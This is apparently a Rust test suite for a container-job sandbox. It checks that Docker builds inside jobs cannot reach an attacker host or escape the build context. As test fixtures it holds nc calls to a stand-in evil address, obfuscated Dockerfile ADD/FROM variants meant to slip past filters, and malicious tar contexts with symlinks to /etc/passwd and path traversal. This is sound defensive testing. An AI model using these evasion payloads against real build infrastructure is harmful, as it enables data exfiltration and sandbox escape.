//! Images that a job builds: their steps run in containers of the job, and the engine fetches nothing for them.

use std::fs;
use std::path::Path;

use anyhow::{Context as _, Result, ensure};

use super::{Stage, says};
use crate::harness::engine::IMAGE;
use crate::harness::network::{EVIL_V4, GOOD_V4, at};
use crate::harness::verdicts::{denial_of, name_asked};

fn context(stage: &Stage<'_>, name: &str, dockerfile: &str) -> Result<std::path::PathBuf> {
    let directory = stage.workspace.join(name);
    fs::create_dir(&directory)?;
    fs::write(directory.join("Dockerfile"), dockerfile)?;
    Ok(directory)
}

/// Images that the engine has, those without names too.
fn images(stage: &Stage<'_>) -> Result<Vec<String>> {
    let listed = stage.engine.done(&["images", "--all", "--quiet"])?;
    Ok(listed.lines().map(str::to_owned).collect())
}

pub(super) fn built(stage: &Stage<'_>) -> Result<()> {
    let dockerfile = "\
# syntax=docker/dockerfile:1
ARG VERSION=none
FROM story:${VERSION} AS First
ARG VERSION
ENV WORD=\"of the image\"
WORKDIR /made/here
COPY --chown=1:1 file sub/ ./
ADD packed.tar /made/
RUN echo \"version $VERSION\" > version && \\
    # in between
    grep CapBnd /proc/self/status
LABEL mine=\"yes\"
VOLUME /data
USER 1:1
RUN id -u
FROM story:1 as second
COPY --from=first /made /copied
COPY --from=story:1 /etc/passwd /copied/passwd
HEALTHCHECK NONE
CMD [\"sh\", \"-c\", \"cat /copied/here/version /copied/here/inner /copied/unpacked; ls -a /all; grep 0:: /proc/self/cgroup\"]
COPY . /all
FROM first
RUN false
";
    let directory = context(stage, "context", dockerfile)?;
    fs::create_dir(directory.join("sub"))?;
    let long = "long-name-".repeat(20);
    for (name, text) in [
        ("file", "a file\n"),
        ("sub/inner", "inner\n"),
        ("unpacked", "unpacked\n"),
        (".dockerignore", "ignored\n"),
        ("ignored", "no\n"),
        (long.as_str(), "long\n"),
    ] {
        fs::write(directory.join(name), text)?;
    }
    let script = "set -e\n\
         cd context; tar cf packed.tar unpacked\n\
         docker build --build-arg VERSION=1 --target second -t made -t other/made:2 --label given=x . >said 2>&1 \
           || { cat said; exit 1; }\n\
         cat said\n\
         docker run --rm made\n\
         docker inspect -f '{{.Config.Labels}}' other/made:2\n\
         docker build --build-arg VERSION=1 --target second -q . | cut -c -7\n\
         docker build --build-arg VERSION=1 --target 1 . | grep -c 'Using cache'\n\
         docker build -t failed --build-arg VERSION=1 . || echo failed-as-it-should\n\
         tar c --exclude Dockerfile . | docker build -f sub/inner - || echo no-dockerfile-there\n\
         printf 'FROM made\\nRUN echo piped' | docker build -t made -\n\
         docker ps -aq | wc -l\n\
         docker rmi made >/dev/null; docker images --format '{{.Repository}}'\n";
    let before = images(stage)?;
    let finished = stage.job(script)?.expect_status(0)?;
    let said = format!("{}{}", finished.stdout, finished.stderr);
    for words in [
        "Successfully tagged made:latest",
        "Successfully tagged other/made:2",
        "version 1\ninner\nunpacked\n",
        "given:x",
        "sha256:\n",
        "failed-as-it-should",
        "no-dockerfile-there",
        "piped",
        &long,
        "other/made",
    ] {
        says(&said, words)?;
    }
    let shown = finished
        .stdout
        .split("version 1")
        .nth(1)
        .unwrap_or_default();
    says(shown, "/cordon.slice/job-")?;
    // What was made to hand the Dockerfile on is not in the image.
    ensure!(
        !shown.contains(".cordon-dockerfile") && !shown.contains("\nignored"),
        "{shown}"
    );
    // Without NET_RAW (bit 13) and MKNOD (27), as any container of a job.
    let bounding = said.lines().find_map(|line| line.strip_prefix("CapBnd:"));
    let bounding = u64::from_str_radix(bounding.context("CapBnd")?.trim(), 16)?;
    ensure!(bounding & (1 << 13 | 1 << 27) == 0, "{bounding:x}");
    let report = finished.report_text()?;
    says(&report, "images built: ")?;
    nothing_is_left(stage, &before)
}

fn nothing_is_left(stage: &Stage<'_>, images_before: &[String]) -> Result<()> {
    let left = images(stage)?;
    ensure!(left == images_before, "images are left: {left:?}");
    for words in [
        &["ps", "--all", "--quiet"][..],
        &["volume", "ls", "--quiet"],
    ] {
        let left = stage.engine.done(words)?;
        ensure!(left.is_empty(), "docker {words:?}: {left}");
    }
    Ok(())
}

/// By address, and by name.
const TRIES: &str = "RUN nc -w 3 198.51.100.66 8080 </dev/null && echo evil-tcp; \
                     nc -w 3 evil.test 8080 </dev/null && echo evil-name; \
                     echo x | nc -w 3 good.test 8080 && echo reached-good; cat /proc/self/cgroup";

pub(super) fn steps(stage: &Stage<'_>) -> Result<()> {
    let Stage { world, engine, .. } = stage;
    let (evil, good) = (at(EVIL_V4, 8080), at(GOOD_V4, 8080));
    let directory = context(stage, "context", &format!("FROM {IMAGE}\n{TRIES}\n"))?;
    let directory = directory.display().to_string();
    // Freely, the attacker is reached.
    engine.done(&["build", "--no-cache", "--rm", "-t", "freely", &directory])?;
    engine.done(&["rmi", "freely"])?;
    let freely = world.evil.at(evil);
    ensure!(freely.connections > 0, "it proves nothing: {freely:?}");
    let good_before = world.good.at(good).connections;
    let _seen = world.leaked()?;
    let finished = stage
        .job(
            "docker network create mine >/dev/null\n\
              docker build context; echo status $?\n\
              docker build --no-cache --network mine context | grep ^reached-\n\
              docker build --no-cache --network none context | grep ^reached- || echo apart\n",
        )?
        .expect_status(0)?;
    says(&finished.stdout, "status 0")?;
    // What a step says is a line; so is the step itself.
    let mut lines = finished.stdout.lines();
    ensure!(
        !lines.any(|line| line.starts_with("evil-")),
        "{}",
        finished.stdout
    );
    let reached = finished.stdout.matches("\nreached-good\n").count();
    ensure!(reached == 2, "{}", finished.stdout);
    says(&finished.stdout, "apart")?;
    says(&finished.stdout, "/cordon.slice/job-")?;
    world.nothing_leaked()?;
    ensure!(
        world.evil.at(evil) == freely,
        "the attacker was reached: {:?}",
        world.evil.at(evil)
    );
    ensure!(
        world.good.at(good).connections > good_before,
        "good.test was not reached"
    );
    let report = finished.report()?;
    let denial = denial_of(&report, evil, "tcp")?;
    let chain = denial.processes.first().context("nobody is named")?;
    says(&format!("{chain:?}"), "/bin/sh")?;
    name_asked(&report, "evil.test").map(drop)
}

/// What a Dockerfile makes an engine fetch, and what the refusal says. `EVIL` is an attacker's address.
const FETCHED: [(&str, &str); 15] = [
    ("FROM story:1\nADD http://EVIL/ /x\n", "`ADD http://"),
    ("FROM story:1\nadd http://EVIL/ /x\n", "`ADD http://"),
    ("FROM story:1\nADD h\"ttp\"://EVIL/ /x\n", "plain paths"),
    (
        "FROM story:1\nADD [\"\\u0068ttp://EVIL/\", \"/x\"]\n",
        "plain paths",
    ),
    (
        "FROM story:1\nADD ht\\\n# a comment\n\ntp://EVIL/ /x\n",
        "plain paths",
    ),
    ("FROM story:1\nA\\\nDD http://EVIL/ /x\n", "plain paths"),
    (
        "\u{feff}FROM story:1\r\nADD http://EVIL/ /x\r\n",
        "plain paths",
    ),
    (
        "FROM story:1\nARG U=http://EVIL/\nADD $U /x\n",
        "plain paths",
    ),
    (
        "# escape=`\nFROM story:1\nRUN true `\nADD a b\nADD http://EVIL/ /x\n",
        "`escape` directive",
    ),
    ("FROM EVIL/x/y\nRUN true\n", "no rule allows it"),
    ("ARG A=EVIL\nFROM ${A}/x/y\nRUN true\n", "no rule allows it"),
    ("FROM story:1 AS a\nFROM EVIL/a\n", "no rule allows it"),
    (
        "FROM story:1\nCOPY --from=EVIL/x/y /a /b\n",
        "no rule allows it",
    ),
    ("FROM story:1\nARG A=EVIL/x/y\nFROM $A\n", "without a value"),
    ("FROM story:1\nONBUILD ADD http://EVIL/ /x\n", "`ONBUILD`"),
];

/// Those that an engine refuses as well, or that only make it fetch later.
const NOT_FETCHED_FREELY: [&str; 4] = ["ONBUILD", "escape=", "FROM $A", "\\u0068"];

pub(super) fn fetches_nothing(stage: &Stage<'_>) -> Result<()> {
    let Stage { world, engine, .. } = stage;
    let evil = at(EVIL_V4, 8080);
    let mut script = String::new();
    for (index, (dockerfile, _)) in FETCHED.iter().enumerate() {
        let dockerfile = dockerfile.replace("EVIL", &evil.to_string());
        let directory = context(stage, &format!("context-{index}"), &dockerfile)?;
        if !NOT_FETCHED_FREELY
            .iter()
            .any(|not| dockerfile.contains(not))
        {
            let before = world.evil.at(evil).connections;
            let directory = directory.display().to_string();
            drop(engine.docker(&["build", "--force-rm", &directory])?);
            ensure!(
                world.evil.at(evil).connections > before,
                "it proves nothing: {dockerfile}"
            );
        }
        script += &format!(
            "docker build context-{index} >out 2>err; echo \"$? $(cat out err | tr '\\n' ' ')\"\n"
        );
    }
    for words in [
        "build --network host context-0",
        "build --cgroup-parent /elsewhere context-0",
        "build --security-opt seccomp=unconfined context-0",
        "build --label dev.cordon.job=other context-0",
        "build -t story:1 context-0",
        "build --compress context-0",
        "build --ulimit memlock=-1 context-0",
    ] {
        script += &format!("docker {words} 2>&1 >/dev/null | tr '\\n' ' '; echo\n");
    }
    script += &format!("docker build http://{evil}/x.git 2>&1 | tail -1\n");
    let _seen = world.leaked()?;
    let freely = world.evil.at(evil);
    let finished = stage.job(&script)?.expect_status(0)?;
    let mut lines = finished.stdout.lines();
    for (dockerfile, needle) in FETCHED {
        let said = lines.next().context("a line is missing")?;
        ensure!(!said.starts_with("0 "), "{dockerfile:?} was built");
        says(said, "cordon: ").with_context(|| format!("{dockerfile:?}"))?;
        says(said, needle).with_context(|| format!("{dockerfile:?}"))?;
    }
    let rest: Vec<&str> = lines.collect();
    for (said, needle) in rest.iter().zip([
        "the host's network",
        "`cgroupparent`",
        "`securityopt`",
        "labels that begin with",
        "the engine has such an image",
        "is compressed",
        "the limit `memlock`",
    ]) {
        says(said, needle)?;
    }
    world.nothing_leaked()?;
    ensure!(
        world.evil.at(evil) == freely,
        "the engine fetched something: {:?}",
        world.evil.at(evil)
    );
    let report = finished.report_text()?;
    says(&report, "requests refused")
}

/// Contexts, as python says what is in them, what they are asked to build, and what is said of it.
const CONTEXTS: [(&str, &str, &str); 14] = [
    ("[f('Dockerfile', GOOD)]", "", "\"aux\""),
    (
        "[f('Dockerfile', GOOD), f('Dockerfile', EVIL)]",
        "",
        "`Dockerfile` twice",
    ),
    (
        "[f('Dockerfile', GOOD), f('./Dockerfile', EVIL)]",
        "",
        "`Dockerfile` twice",
    ),
    (
        "[f('other', EVIL), link('Dockerfile', 'other')]",
        "",
        "no plain file",
    ),
    (
        "[f('other', EVIL), hard('Dockerfile', 'other')]",
        "",
        "no plain file",
    ),
    (
        "[f('Dockerfile', GOOD), hard('Dockerfile', 'other')]",
        "",
        "no plain file",
    ),
    // What lies beside it is no Dockerfile, whatever the engine makes of the names.
    (
        "[f('Dockerfile', GOOD), f('dockerfile', EVIL), f('sub/Dockerfile', EVIL)]",
        "",
        "\"aux\"",
    ),
    (
        "[f('sub/Dockerfile', GOOD), link('sub2', 'sub'), f('sub2/Dockerfile', EVIL)]",
        "dockerfile=sub/Dockerfile",
        "\"aux\"",
    ),
    (
        "[f('Dockerfile', GOOD), f('.cordon-dockerfile', EVIL)]",
        "",
        "hands a Dockerfile on",
    ),
    (
        "[f('Dockerfile', GOOD), link('.dockerignore', '/etc/passwd')]",
        "",
        "no plain file",
    ),
    (
        "[f('Dockerfile', GOOD), f('../../x', EVIL)]",
        "",
        "leads out of it",
    ),
    (
        "[f('Dockerfile', EVIL)]",
        "dockerfile=../Dockerfile",
        "leads out of it",
    ),
    (
        "[f('Dockerfile', GOOD)]",
        "remote=http://198.51.100.66:8080/x.tar",
        "`remote`",
    ),
    ("[f('Dockerfile', GOOD)]", "version=2", "BuildKit"),
];

/// Sends them past any client.
const SENDER: &str = r"
import http.client, io, os, tarfile
GOOD = b'FROM story:1\nRUN true\n'
EVIL = b'FROM story:1\nADD http://198.51.100.66:8080/ /x\n'
def f(name, data):
    return tarfile.TarInfo(name), data
def link(name, to, kind=tarfile.SYMTYPE):
    info = tarfile.TarInfo(name); info.type = kind; info.linkname = to
    return info, b''
def hard(name, to):
    return link(name, to, tarfile.LNKTYPE)
def send(entries, query, cut=None):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w') as archive:
        for info, data in entries:
            info.size = len(data); archive.addfile(info, io.BytesIO(data))
    body = out.getvalue()[:cut]
    there = http.client.HTTPConnection(os.environ['DOCKER_HOST'].removeprefix('tcp://'))
    there.request('POST', '/v1.41/build?' + query, body, {'Content-Type': 'application/x-tar'})
    answer = there.getresponse()
    print(answer.status, answer.read().decode().replace('\n', ' ').replace('\r', ''))
";

pub(super) fn contexts(stage: &Stage<'_>) -> Result<()> {
    let evil = at(EVIL_V4, 8080);
    let mut sender = SENDER.to_owned();
    for (entries, query, _) in CONTEXTS {
        sender += &format!("send({entries}, '{query}')\n");
    }
    sender += "send([f('Dockerfile', GOOD)], '', 700)\n";
    let path: &Path = &stage.workspace.join("sender.py");
    fs::write(path, sender)?;
    let before = images(stage)?;
    let finished = stage.job("python3 sender.py")?.expect_status(0)?;
    let mut lines = finished.stdout.lines();
    for (entries, query, needle) in CONTEXTS {
        let said = lines.next().context("a line is missing")?;
        says(said, needle).with_context(|| format!("{entries} {query}"))?;
        let built = needle == "\"aux\"";
        ensure!(said.starts_with("200 ") == built, "{entries}: {said}");
        ensure!(built || said.contains("cordon: "), "{entries}: {said}");
    }
    says(lines.next().context("a line is missing")?, "cut short")?;
    stage.world.nothing_leaked()?;
    ensure!(
        stage.world.evil.at(evil).connections == 0,
        "the engine fetched something"
    );
    nothing_is_left(stage, &before)
}

pub(super) fn ended(stage: &Stage<'_>) -> Result<()> {
    let before = images(stage)?;
    let directory = context(
        stage,
        "context",
        "FROM story:1\nRUN touch /first\nRUN touch started; sleep 600\nRUN touch /after\n",
    )?;
    ensure!(directory.is_dir(), "the context");
    // The job ends while the engine builds.
    let finished = stage
        .job(
            "docker build -t late context >said 2>&1 &\n\
             until grep -q 'Step 4/' said; do sleep 0.1; done; until [ -n \"$(docker ps -q)\" ]; do sleep 0.1; done\n\
             docker ps --no-trunc --format '{{.Command}}'\n",
        )?
        .expect_status(0)?;
    says(&finished.stdout, "sleep 600")?;
    nothing_is_left(stage, &before)?;
    let report = finished.report_text()?;
    ensure!(!report.contains("could not be removed"), "{report}");
    // Steps in which nothing runs that could be killed.
    let many: Vec<String> = (0..300).map(|step| format!("ENV A{step}=1\n")).collect();
    let many = many.concat();
    context(stage, "many", &format!("FROM story:1\n{many}"))?;
    stage
        .job(
            "docker build many >said 2>&1 &\n\
             until grep -q 'Step 9/' said; do sleep 0.1; done; grep -c 'Step 300/' said || true\n",
        )?
        .expect_status(0)?;
    nothing_is_left(stage, &before)?;
    // And the client while the job goes on.
    let finished = stage
        .job(
            "timeout 5 docker build context >said 2>&1; echo status $?\n\
             for i in $(seq 100); do [ -z \"$(docker ps -aq)\" ] && break; sleep 0.1; done\n\
             docker ps -aq | wc -l\n",
        )?
        .expect_status(0)?;
    ensure!(
        finished.stdout.ends_with("\n0\n"),
        "a build goes on that nobody waits for: {}",
        finished.stdout
    );
    nothing_is_left(stage, &before)
}
